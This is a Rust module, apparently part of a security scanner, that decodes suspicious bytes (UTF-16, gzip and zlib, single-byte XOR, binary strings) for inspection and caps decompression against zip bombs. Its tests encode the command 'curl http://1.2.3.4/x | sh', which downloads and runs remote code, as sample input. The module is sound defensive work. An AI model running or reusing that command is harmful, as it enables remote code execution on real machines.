//! What decoded bytes are: text, UTF-16, compressed, keyed with one byte, or a binary with strings in it.

use super::plain;
use crate::scan::work::Work;
use miniz_oxide::inflate::{decompress_to_vec_with_limit, decompress_to_vec_zlib_with_limit};

/// The largest text that is unpacked from compressed bytes.
const MAX_UNPACKED: usize = 1 << 20;
/// The longest bytes that keys are tried on.
const MAX_KEYED: usize = 16 << 10;
/// The shortest string taken out of a binary.
const MIN_STRING: usize = 8;

/// Starts of files that hold no text for us: their metadata would only be noise.
const MEDIA: &[&[u8]] = &[
    b"\x89PNG",
    b"\xff\xd8\xff",
    b"GIF8",
    b"RIFF",
    b"BM",
    b"\0\0\x01\0",
    b"wOFF",
    b"wOF2",
    b"OTTO",
    b"\0\x01\0\0",
    b"%PDF",
    b"ID3",
    b"OggS",
    b"fLaC",
    b"\0\0\0",
    b"II*\0",
    b"MM\0*",
    b"\0asm",
    b"\x30\x82",
    b"\x30\x59",
    b"\x30\x2a",
    b"openssh-key",
    b"ssh-",
    b"\0\0\0\x07ssh-",
];

/// Reads bytes as text, with the names of the steps that took. `keyed`: the text around speaks of XOR or a key.
pub(super) fn read(bytes: &[u8], keyed: bool, work: &Work) -> Option<(Vec<&'static str>, String)> {
    if bytes.len() < 4 {
        return None;
    }
    if let Some(text) = text(bytes) {
        return Some((vec![], text));
    }
    if let Some(text) = utf16(bytes) {
        return Some((vec!["utf-16"], text));
    }
    if let Some((name, inner)) = unpack(bytes) {
        let (mut chain, text) =
            text(&inner).map(|t| (vec![], t)).or_else(|| strings(&inner).map(|t| (vec!["strings"], t)))?;
        chain.insert(0, name);
        return Some((chain, text));
    }
    if MEDIA.iter().any(|m| bytes.starts_with(m)) {
        return None;
    }
    if keyed && let Some(text) = xor(bytes, work) {
        return Some((vec!["xor"], text));
    }
    strings(bytes).map(|t| (vec!["strings"], t))
}

/// Could the bytes be text, from their start? Cheap, for throwing away most candidates before they are decoded whole.
pub(super) fn may_be_text(head: &[u8]) -> bool {
    let odd = head
        .iter()
        .filter(|b| (**b < 0x20 && !matches!(b, b'\n' | b'\r' | b'\t' | 0x1b)) || **b == 0x7f || **b >= 0xf8)
        .count();
    odd == 0
}

fn text(bytes: &[u8]) -> Option<String> {
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    // A fragment may be cut within a character, and padded with NULs.
    let end = bytes.iter().rposition(|b| *b != 0).map_or(0, |i| i + 1);
    let text = match std::str::from_utf8(&bytes[..end]) {
        Ok(text) => text,
        Err(e) if e.valid_up_to() + 4 > end && e.valid_up_to() > 12 => {
            std::str::from_utf8(&bytes[..e.valid_up_to()]).ok()?
        }
        Err(_) => return None,
    };
    plain::is_text(text).then(|| text.to_owned())
}

/// UTF-16 of either order, known by its zero bytes or its mark.
fn utf16(bytes: &[u8]) -> Option<String> {
    let (bytes, marked) = match bytes {
        [0xff, 0xfe, rest @ ..] => (rest, Some(false)),
        [0xfe, 0xff, rest @ ..] => (rest, Some(true)),
        _ => (bytes, None),
    };
    let pairs = bytes.len() / 2;
    if pairs < 4 {
        return None;
    }
    let sample = pairs.min(64);
    let zeros = |odd: usize| (0..sample).filter(|i| bytes[i * 2 + odd] == 0).count() * 4 >= sample * 3;
    let big = match marked {
        Some(big) => big,
        None if zeros(1) => false,
        None if zeros(0) => true,
        None => return None,
    };
    let units = bytes
        .chunks_exact(2)
        .map(|p| if big { u16::from_be_bytes([p[0], p[1]]) } else { u16::from_le_bytes([p[0], p[1]]) });
    let text: String = char::decode_utf16(units).map(|c| c.unwrap_or('\u{fffd}')).collect();
    plain::is_text(&text).then_some(text)
}

fn unpack(bytes: &[u8]) -> Option<(&'static str, Vec<u8>)> {
    match bytes {
        [0x1f, 0x8b, 8, flags, ..] => {
            let mut at = 10;
            if flags & 4 != 0 {
                let length = usize::from(*bytes.get(at)?) | usize::from(*bytes.get(at + 1)?) << 8;
                at += 2 + length;
            }
            for flag in [8, 16] {
                if flags & flag != 0 {
                    at += memchr::memchr(0, bytes.get(at..)?)? + 1;
                }
            }
            at += if flags & 2 != 0 { 2 } else { 0 };
            Some(("gzip", kept(decompress_to_vec_with_limit(bytes.get(at..)?, MAX_UNPACKED))?))
        }
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => {
            Some(("zlib", kept(decompress_to_vec_zlib_with_limit(bytes, MAX_UNPACKED))?))
        }
        _ => None,
    }
}

/// What was unpacked before an error or the limit still counts.
fn kept(result: Result<Vec<u8>, miniz_oxide::inflate::DecompressError>) -> Option<Vec<u8>> {
    let out = result.unwrap_or_else(|e| e.output);
    (out.len() >= 4).then_some(out)
}

/// Bytes keyed with a single byte, found by trying all keys on the start.
pub(super) fn xor(bytes: &[u8], work: &Work) -> Option<String> {
    if bytes.len() < 12 || bytes.len() > MAX_KEYED || !work.spend(512) {
        return None;
    }
    let head = &bytes[..bytes.len().min(48)];
    let mut best: Option<(usize, String)> = None;
    for key in 1..=255u8 {
        if !head.iter().all(|b| matches!(b ^ key, b'\n' | b'\r' | b'\t' | 0x20..=0x7e)) {
            continue;
        }
        if !work.spend(bytes.len() * 4) {
            break;
        }
        let plain: Vec<u8> = bytes.iter().map(|b| b ^ key).collect();
        // Neighbouring keys give letters too: the right one gives words and spaces.
        let Some(text) = text(&plain).filter(|t| plain::is_telling(t)) else { continue };
        let score = plain::words(&text) * 8
            + text.bytes().filter(|b| matches!(b, b' ' | b'e' | b't' | b'a' | b'o')).count();
        if best.as_ref().is_none_or(|b| b.0 < score) {
            best = Some((score, text));
        }
    }
    best.map(|b| b.1)
}

/// The readable strings of a binary, one a line, if any of them tells something.
fn strings(bytes: &[u8]) -> Option<String> {
    if bytes.len() < 24 || MEDIA.iter().any(|m| bytes.starts_with(m)) {
        return None;
    }
    let mut out = String::new();
    for piece in bytes.split(|b| !matches!(b, b'\n' | b'\t' | 0x20..=0x7e)).filter(|p| p.len() >= MIN_STRING)
    {
        if let Ok(piece) = std::str::from_utf8(piece) {
            out.push_str(piece);
            out.push('\n');
        }
    }
    (out.len() >= 16 && (plain::is_telling(&out) || has_number_list(&out))).then_some(out)
}

/// Bytecode keeps its next stage as a list of numbers.
fn has_number_list(text: &str) -> bool {
    text.split(|c: char| !(c.is_ascii_digit() || matches!(c, ',' | ' ')))
        .any(|l| l.len() >= 48 && l.contains(','))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keyed_and_wide_texts_are_read() {
        let plain = b"curl http://1.2.3.4/x | sh";
        let keyed: Vec<u8> = plain.iter().map(|b| b ^ 0x9f).collect();
        assert_eq!(
            read(&keyed, true, &Work::for_text(1 << 20)),
            Some((vec!["xor"], "curl http://1.2.3.4/x | sh".into()))
        );
        let wide: Vec<u8> = plain.iter().flat_map(|b| [*b, 0]).collect();
        assert_eq!(
            read(&wide, false, &Work::for_text(1 << 20)),
            Some((vec!["utf-16"], "curl http://1.2.3.4/x | sh".into()))
        );
        let packed = miniz_oxide::deflate::compress_to_vec_zlib(plain, 6);
        assert_eq!(
            read(&packed, false, &Work::for_text(1 << 20)),
            Some((vec!["zlib"], "curl http://1.2.3.4/x | sh".into()))
        );
    }

    #[test]
    fn a_bomb_is_cut() {
        let packed = miniz_oxide::deflate::compress_to_vec_zlib(&b"curl http://a.b/ ".repeat(1 << 20), 6);
        let (_, text) = read(&packed, false, &Work::for_text(1 << 20)).unwrap();
        assert!(text.len() <= MAX_UNPACKED);
    }

    #[test]
    fn media_is_no_text() {
        assert_eq!(
            read(
                b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR http://ns.adobe.com/ password",
                true,
                &Work::for_text(1 << 20)
            ),
            None
        );
        assert_eq!(
            read(
                &[0xde, 0xad, 0xbe, 0xef, 0x80, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12],
                true,
                &Work::for_text(1 << 20)
            ),
            None
        );
    }
}
